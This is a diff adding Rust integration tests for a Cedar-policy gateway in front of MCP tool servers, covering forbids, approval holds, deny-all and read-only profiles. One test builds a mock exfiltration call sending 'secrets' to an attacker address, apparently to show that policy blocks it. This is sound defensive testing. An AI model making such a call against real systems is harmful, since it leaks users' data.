@@ -1,0 +1,188 @@
+//! Every call judged by Cedar policy, end to end through `portcullis serve` with a real
+//! (raw JSON) MCP server: a forbid on an argument blocks the call and names the policy; the
+//! built-in profiles hold destructive calls for approval, deny everything, or allow only
+//! reads; tools a principal may never call are not listed; config overrides an upstream's
+//! effect hints; a bad policy stops the gateway before it serves.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "test helpers"
+)]
+
+mod common;
+
+use common::*;
+use serde_json::{Value, json};
+
+fn raw_upstream(extra: &str) -> String {
+    format!(
+        "[upstreams.raw]\ncommand = \"python3\"\nargs = [{}]\n{extra}\n",
+        toml_str(&raw_server().to_string_lossy())
+    )
+}
+
+/// Starts the gateway with a policy section and, optionally, one policy file.
+async fn gateway(policy: &str, file: Option<&str>, upstream_extra: &str) -> Served {
+    let dir = tempfile::tempdir().unwrap();
+    let mut section = format!("[policy]\n{policy}\n");
+    if let Some(text) = file {
+        let path = dir.path().join("policy.cedar");
+        std::fs::write(&path, text).unwrap();
+        section.push_str(&format!("files = [{}]\n", toml_str(&path.to_string_lossy())));
+    }
+    let served = Served::start(&format!("{section}\n{}", raw_upstream(upstream_extra))).await;
+    // The policy file must outlive the gateway's start only; it was read at load.
+    drop(dir);
+    served
+}
+
+fn denial(r: &Value) -> (&str, Vec<&str>, &str) {
+    let e = &r["error"];
+    assert_eq!(e["code"], -31001, "a policy denial: {r}");
+    let policies = e["data"]["policies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p.as_str().unwrap())
+        .collect();
+    (
+        e["data"]["outcome"].as_str().unwrap(),
+        policies,
+        e["message"].as_str().unwrap(),
+    )
+}
+
+async fn tool_names(gw: &Served) -> Vec<String> {
+    Modern::new(&gw.url)
+        .list_tools()
+        .await
+        .iter()
+        .map(|t| t["name"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forbid_on_an_argument_blocks_the_call_and_names_the_policy() {
+    let policy = r#"
+@id("mail-only-to-example-com")
+@reason("messages may only go to example.com addresses")
+forbid (principal, action == Action::"call_tool", resource)
+when { resource.name == "send_message" && context.arguments has to && !(context.arguments.to like "*@example.com") };
+"#;
+    let gw = gateway("", Some(policy), "").await;
+    gw.wait_for_tools(&["raw__"]).await;
+    let client = Modern::new(&gw.url);
+    let r = client
+        .call(
+            "raw__send_message",
+            json!({"to": "attacker@evil.test", "body": "secrets"}),
+        )
+        .await;
+    let (outcome, policies, message) = denial(&r);
+    assert_eq!(outcome, "forbid");
+    assert_eq!(policies, ["mail-only-to-example-com"]);
+    assert!(message.contains("example.com addresses"), "{message}");
+    let ok = client
+        .call("raw__send_message", json!({"to": "bob@example.com", "body": "hi"}))
+        .await;
+    assert_eq!(ok["result"]["content"][0]["text"], "sent to bob@example.com", "{ok}");
+    // The same holds for a legacy client.
+    let legacy = Legacy::connect(&gw.url).await;
+    let r = legacy
+        .call("raw__send_message", json!({"to": "attacker@evil.test"}))
+        .await;
+    assert_eq!(denial(&r).1, ["mail-only-to-example-com"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_default_profile_holds_destructive_calls_for_approval() {
+    let gw = gateway("", None, "").await;
+    gw.wait_for_tools(&["raw__"]).await;
+    let client = Modern::new(&gw.url);
+    let r = client.call("raw__delete_everything", json!({})).await;
+    let (outcome, policies, message) = denial(&r);
+    assert_eq!(outcome, "needs_approval");
+    assert_eq!(policies, ["default-destructive-needs-approval"]);
+    assert!(message.contains("approv"), "{message}");
+    // Reads and sends pass; destructive tools stay listed (a person could approve them).
+    assert!(client.call("raw__pid", json!({})).await.get("result").is_some());
+    assert!(
+        client
+            .call("raw__send_message", json!({"to": "x@y.z"}))
+            .await
+            .get("result")
+            .is_some()
+    );
+    assert!(tool_names(&gw).await.contains(&"raw__delete_everything".to_owned()));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn config_effects_override_the_upstreams_hints() {
+    let gw = gateway("", None, "[upstreams.raw.tools.delete_everything]\neffect = \"read\"").await;
+    gw.wait_for_tools(&["raw__"]).await;
+    let r = Modern::new(&gw.url).call("raw__delete_everything", json!({})).await;
+    assert_eq!(r["result"]["content"][0]["text"], "deleted nothing", "{r}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn deny_all_lists_nothing_and_refuses_everything() {
+    let gw = gateway("profile = \"deny-all\"", None, "").await;
+    // The upstream is up (it settles), but no tool is listed.
+    let names = tool_names(&gw).await;
+    assert!(names.is_empty(), "{names:?}");
+    let r = Modern::new(&gw.url).call("raw__pid", json!({})).await;
+    assert_eq!(denial(&r).0, "forbid");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn read_only_lists_and_allows_only_reads() {
+    let gw = gateway("profile = \"read-only\"", None, "").await;
+    gw.wait_for_tools(&["raw__"]).await;
+    let names = tool_names(&gw).await;
+    assert!(names.contains(&"raw__pid".to_owned()), "{names:?}");
+    for hidden in ["raw__send_message", "raw__delete_everything"] {
+        assert!(
+            !names.contains(&hidden.to_owned()),
+            "{hidden} must not be listed: {names:?}"
+        );
+    }
+    let client = Modern::new(&gw.url);
+    assert!(client.call("raw__pid", json!({})).await.get("result").is_some());
+    let r = client.call("raw__send_message", json!({"to": "bob@example.com"})).await;
+    assert_eq!(denial(&r).0, "forbid");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_invalid_policy_stops_the_gateway_before_it_serves() {
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.cedar");
+    std::fs::write(
+        &policy,
+        "permit (principal, action, resource)\nwhen { resource.nmae == \"x\" };\n",
+    )
+    .unwrap();
+    let config = dir.path().join("portcullis.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[policy]\nfiles = [{}]\n\n{}",
+            toml_str(&policy.to_string_lossy()),
+            raw_upstream("")
+        ),
+    )
+    .unwrap();
+    let out = tokio::process::Command::new(portcullis())
+        .args(["serve", "--config"])
+        .arg(&config)
+        .output()
+        .await
+        .unwrap();
+    assert_eq!(out.status.code(), Some(64), "bad config exits 64");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("policy.cedar:2:") && stderr.contains("nmae"),
+        "{stderr}"
+    );
+}
